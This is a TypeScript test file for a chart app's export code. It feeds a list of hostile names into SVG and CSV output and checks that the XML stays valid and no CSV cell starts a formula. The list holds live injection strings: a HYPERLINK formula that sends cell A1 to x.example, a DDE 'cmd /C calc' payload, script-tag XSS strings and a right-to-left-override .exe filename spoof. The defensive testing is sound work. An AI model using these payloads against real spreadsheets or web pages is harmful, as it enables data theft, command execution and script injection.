/** Files that leave the page with names from outside in them. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ChartModel } from './model.ts';
import { dark, light } from './palette.ts';
import { chartCsv, svgText } from './svg.ts';
import { xmlTexts } from '../../testing/xml.ts';
import { rowChart, SAVED } from '../timelines/rowChart.ts';
import type { Row, Timeline } from '../timelines/rows.ts';
import { scoresCsv } from '../views/predict/words.ts';
import { metricChart } from '../views/train/metricChart.ts';
import { groups } from '../views/train/metrics.ts';
import type { TrainPoint } from '../../learning/training/progress.ts';

const HOSTILE = [
  '=1+2',
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1)',
  '\t=1+2',
  '\r=1+2',
  ' =1+2',
  '＝1+2',
  'x;=1+2',
  'a\n=1+2',
  'a","b',
  'a\0b\u0008\u001b',
  'half \ud800 of',
  '\ude00',
  '\ufffe\uffff',
  ']]><script>alert(1)</script>',
  '"/><script href="data:,x"/>',
  "' onload='x",
  '&#0;&amp;&bad;',
  '<!--',
  '\u202egnp.exe',
];

const picture = (name: string): ChartModel => ({
  title: name,
  sentence: name,
  width: 100,
  height: 50,
  marks: [
    { kind: 'text', x: 1, y: 1, body: name, fill: 'ink' },
    { kind: 'path', d: 'M0 0H1', hint: name },
    { kind: 'circle', x: 1, y: 1, r: 1, fill: 'ink', hint: name },
  ],
  head: ['name', name],
  rows: [[name, -1.5]],
});
const line = (name: string, key: 'a' | 'b'): Row['lines'][number] => ({
  key,
  name,
  policy: 'ipa',
  values: Float64Array.of(-1.5, 2),
  mean: 1,
});
const row = (name: string): Row => ({
  id: 'cost',
  title: name,
  unit: name,
  steps: true,
  digits: 1,
  weight: 1,
  lines: [line(name, 'b'), line(name, 'a')],
  domain: [0, 2],
  rule: { value: 1, name },
});
const timeline: Timeline = { t: Float64Array.of(120, 130), from: 120, to: 140, rows: [] };
const training = (name: string): ChartModel => {
  const points = [-2, -1].map((reward, k) => ({ steps: k, reward }) as TrainPoint);
  const set = { ...{ id: name, name, evaluations: [], scale: undefined }, members: [points] };
  const metric = { ...groups[0]!.metrics[0]!, title: name, unit: name };
  return metricChart(
    metric,
    {
      sets: [set, set].map((one) => ({ ...one, colour: { light: '#000000', dark: '#ffffff' } })),
      ...{ clock: 'steps', domain: [0, 1], shades: [] },
    },
    720,
  );
};

describe.each(HOSTILE)('with %j as every name', (name) => {
  it.each([
    ['a picture', () => svgText(picture(name), dark), 4],
    ['a timeline', () => svgText(rowChart(timeline, row(name), SAVED), light), 2],
    ['a training', () => svgText(training(name), dark), 4],
  ])('%s is XML, and the name stands in it as a text', (_, draw, least) => {
    const shown = name.replace(/(?![\t\n\r])[\p{Cc}\p{Cs}\ufffe\uffff]/gu, '\ufffd');
    const texts = xmlTexts(draw());
    expect(texts.filter((text) => text.includes(shown)).length).toBeGreaterThanOrEqual(least);
  });

  it.each([
    ['the numbers of a picture', () => chartCsv(picture(name))],
    ['a timeline', () => chartCsv(rowChart(timeline, row(name), SAVED))],
    ['a training', () => chartCsv(training(name))],
    [
      'forecasts',
      () =>
        scoresCsv(
          [
            {
              id: 'x',
              name,
              smape: -1.5,
              mase: 1,
              pinball: 1,
              coverage: 1,
              milliseconds: 1,
              forecast: new Float64Array(),
            },
          ],
          { smape: 1, mase: 1, pinball: 1 },
        ),
    ],
  ])('%s as CSV: no cell is a formula, no row has another number of cells, numbers stay', (_, write) => {
    const { data } = Papa.parse<string[]>(write().trimEnd(), { delimiter: ',', newline: '\n' });
    expect(new Set(data.map((cells) => cells.length)).size).toBe(1);
    for (const cell of data.flat()) {
      for (const part of cell.split(/[;\t\r\n]/))
        expect(Number.isFinite(Number(part)) ? '' : part).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠]/u);
    }
    expect(data.flat().some((cell) => Number(cell) < 0)).toBe(true);
  });
});
